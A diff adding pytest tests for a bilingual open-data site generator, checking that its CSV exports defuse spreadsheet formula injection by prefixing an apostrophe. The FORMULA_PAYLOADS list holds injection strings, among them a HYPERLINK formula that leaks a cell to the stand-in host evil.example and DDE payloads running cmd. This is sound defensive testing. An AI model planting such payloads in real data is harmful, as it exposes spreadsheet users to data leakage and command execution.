@@ -6,15 +6,33 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
+from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 import yaml
 
 from generator.check import check
+from generator.datapage import render_data_page
 from generator.dataset import Dataset
-from generator.export import MULTILINGUAL, TABLES, data_files, popolo, popolo_json, read_popolo
-from generator.schema import KINDS
+from generator.export import (
+    FORMULA_SIGNS,
+    MULTILINGUAL,
+    TABLES,
+    Column,
+    Table,
+    data_files,
+    inert_cell,
+    popolo,
+    popolo_json,
+    read_popolo,
+    runs_as_formula,
+    table_csv,
+    table_values,
+)
+from generator.schema import KINDS, MODELS
 from tests.conftest import SHIPPED_DATA
 
 SITE_URL = "https://sijill.example.org/"
@@ -243,3 +261,205 @@ def test_the_site_offers_the_files_and_documents_every_column(shipped_site: Path
                     assert f"<code>{header}</code>" in page, (lang, table.name, header)
     arabic = (shipped_site / "ar" / "data" / "index.html").read_text(encoding="utf-8")
     assert "<h1" in arabic and "البيانات" in arabic
+
+
+# --- formulas in the CSV files ----------------------------------------------------------------
+
+# What a contributor could put at the start of any text to have a spreadsheet run it. A tab, a
+# carriage return or a bidi mark does not pass the check; `inert_cell` is tested on them below.
+FORMULA_PAYLOADS = (
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\n=1+1",  # after a line end
+    "\uff1d1+1",  # ＝ full width
+    "\uff0b1+1",  # ＋
+    "\uff0d1+1",  # －
+    "\uff20SUM(1)",  # ＠
+    " \u00a0=1+1",  # after spaces
+    "\u200d=1+1",  # after a zero-width joiner (the check refuses other invisible characters)
+    "'=1+1",  # an apostrophe of the data's own
+)
+
+# The columns whose values the build writes or the schema constrains to ids, codes, dates and
+# numbers: no text from a contributor reaches them. Every other column must carry the payload in
+# the test below, so a new free-text column is tested as soon as it exists.
+OUR_COLUMNS = {
+    "id",
+    "country",
+    "country_name__en",
+    "country_name__ar",
+    "classification",
+    "start_date",
+    "end_date",
+    "from_country",
+    "to_country",
+    "visitors",
+    "hosts",
+    "parent",
+    "sources",
+    "person_id",
+    "organization_id",
+    "visit_id",
+    "number",
+    "speaker_id",
+    "lang",
+    "visit_start_date",
+}
+
+
+def _resolve(schema: dict[str, Any], node: dict[str, Any]) -> dict[str, Any]:
+    while "$ref" in node:
+        node = schema["$defs"][node["$ref"].rsplit("/", 1)[1]]
+    return node
+
+
+def _constrained(node: dict[str, Any]) -> bool:
+    """An id, reference, code, date, URL or choice: not text a contributor writes freely."""
+    return any(key in node for key in ("x-references", "pattern", "enum", "const", "format"))
+
+
+def _with_payload(schema: dict[str, Any], node: dict[str, Any], value: Any, payload: str) -> Any:
+    """`value` with `payload` put in front of every free text in it, found by walking the
+    JSON Schema of the format, so that no field needs naming here."""
+    node = _resolve(schema, node)
+    if _constrained(node):
+        return value
+    if "anyOf" in node:
+        for branch in node["anyOf"]:
+            branch = _resolve(schema, branch)
+            types = branch.get("type", [])
+            types = types if isinstance(types, list) else [types]
+            python = {"string": str, "object": dict, "array": list}
+            if any(isinstance(value, python[name]) for name in types if name in python):
+                return _with_payload(schema, branch, value, payload)
+        return value
+    if isinstance(value, str) and node.get("type") == "string":
+        return payload + value
+    if isinstance(value, dict) and "properties" in node:
+        return {
+            key: _with_payload(schema, node["properties"][key], item, payload)
+            for key, item in value.items()
+        }
+    if isinstance(value, list) and "items" in node:
+        return [_with_payload(schema, node["items"], item, payload) for item in value]
+    return value
+
+
+def _payload_everywhere(data_dir: Path, payload: str) -> None:
+    """Every file of the data, and the optional fields of `EXTRA_FILES`, with `payload` in
+    front of every free text."""
+    for path, data in EXTRA_FILES.items():
+        (data_dir / path).write_text(yaml.safe_dump(data), encoding="utf-8")
+    for kind in KINDS:
+        schema = MODELS[kind].model_json_schema()
+        for path in sorted((data_dir / kind).glob("*.yml")):
+            data = yaml.safe_load(path.read_text(encoding="utf-8"))
+            changed = _with_payload(schema, schema, data, payload)
+            path.write_text(yaml.safe_dump(changed, allow_unicode=True), encoding="utf-8")
+
+
+_PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
+_SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
+
+
+def _a_spreadsheet_would_run(cell: str) -> bool:
+    """An oracle written apart from the code under test, for the payloads above."""
+    if cell.startswith("'") or _PLAIN_NUMBER.fullmatch(cell):
+        return False
+    first = cell.lstrip(" \t\r\n\u00a0\u200d\u200e\u200f")[:1]
+    return cell[:1] in ("\t", "\r") or (first != "" and first in _SIGNS)
+
+
+def _strings(value: Any) -> Iterator[str]:
+    if isinstance(value, str):
+        yield value
+    elif isinstance(value, dict):
+        for item in value.values():
+            yield from _strings(item)
+    elif isinstance(value, list):
+        for item in value:
+            yield from _strings(item)
+
+
+def _csv_rows(text: str) -> list[list[str]]:
+    assert text.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+
+
+@pytest.mark.parametrize("payload", FORMULA_PAYLOADS, ids=ascii)
+def test_no_csv_cell_from_the_data_runs_as_a_formula(data_copy: Path, payload: str) -> None:
+    _payload_everywhere(data_copy, payload)
+    dataset = _checked(data_copy)
+    files = data_files(dataset, SITE_URL)
+    for table in TABLES:
+        values = list(table_values(table, dataset))
+        rows = _csv_rows(files[f"data/{table.file}"])
+        assert [len(row) for row in rows] == [len(row) for row in values], table.name
+        assert len(rows) > 1, table.name
+        headers = values[0]
+        carried: set[str] = set()
+        for row, raw_row in zip(rows, values, strict=True):
+            for header, cell, raw in zip(headers, row, raw_row, strict=True):
+                where = (table.name, header, raw)
+                if raw.startswith(payload):
+                    carried.add(header)
+                    assert cell == "'" + raw, where
+                else:
+                    assert cell in (raw, "'" + raw), where
+                assert not _a_spreadsheet_would_run(cell), where
+        # Every column of free text got the payload; none of ours did.
+        assert carried == set(headers) - OUR_COLUMNS, table.name
+    # The JSON has the true values: they read back as the data, and none has the apostrophe.
+    document = json.loads(files["data/sijill.json"])
+    _assert_same_entities(read_popolo(document, dataset.root), dataset)
+    strings = list(_strings(document))
+    assert any(text.startswith(payload) for text in strings)
+    assert not any(text.startswith("'" + payload) for text in strings)
+
+
+def test_a_new_column_is_covered_without_asking() -> None:
+    column = Column("note", lambda item, lang: "=1+1", {"en": "", "ar": ""}, per_language=True)
+    table = Table("new", lambda context: [object()], (column,), {"en": "", "ar": ""})
+    assert _csv_rows(table_csv(table, _checked(SHIPPED_DATA))) == [
+        ["note__en", "note__ar"],
+        ["'=1+1", "'=1+1"],
+    ]
+
+
+def test_which_cells_get_an_apostrophe() -> None:
+    for cell in ("=1", "+1", "-1+1", "@A1", "\tx", "\rx", " =1", "\n=1", "\u00a0@x", "-"):
+        assert inert_cell(cell) == "'" + cell, ascii(cell)
+    for cell in ("\uff1d1", "\uff0b1", "\uff0d1", "\uff20x", "\ufe661", "\u200f=1", "\ufeff=1"):
+        assert inert_cell(cell) == "'" + cell, ascii(cell)
+    # Plain numbers, dates, ids and ordinary text are left as they are.
+    ordinary = ("-3", "-2.5", "3", "2025-11-25", "Q355915", "a-b", "Ali", "علي", "", " ")
+    for cell in (*ordinary, "\u22121"):  # U+2212 MINUS SIGN is not a formula sign
+        assert inert_cell(cell) == cell, ascii(cell)
+    # Apostrophes of the data's own: one more only where the rest would run.
+    assert inert_cell("'=1") == "''=1"
+    assert inert_cell("'Ali") == "'Ali"
+    assert inert_cell("'-3") == "'-3"
+
+
+def _undo(cell: str) -> str:
+    """What the Data page tells readers: remove the first `'` of a cell that had one added."""
+    return cell[1:] if cell.startswith("'") and runs_as_formula(cell[1:]) else cell
+
+
+def test_the_apostrophe_can_be_undone() -> None:
+    texts = ["", "'", "''", "=", "'=", "''=1", "-3", "'-3", "x", "'x", "' =1", "\t", "'\t"]
+    texts += [prefix + payload for prefix in ("", "'", "''") for payload in FORMULA_PAYLOADS]
+    for text in texts:
+        assert _undo(inert_cell(text)) == text, ascii(text)
+
+
+def test_the_data_page_says_which_cells_get_an_apostrophe() -> None:
+    dataset = _checked(SHIPPED_DATA)
+    for lang in ("en", "ar"):
+        page = render_data_page(dataset, lang)
+        for sign in [*FORMULA_SIGNS, "'", "-3", "\uff1d"]:
+            assert f"`{sign}`" in page, (lang, sign)
+    assert "full-width" in render_data_page(dataset, "en")
+    assert "كاملة العرض" in render_data_page(dataset, "ar")
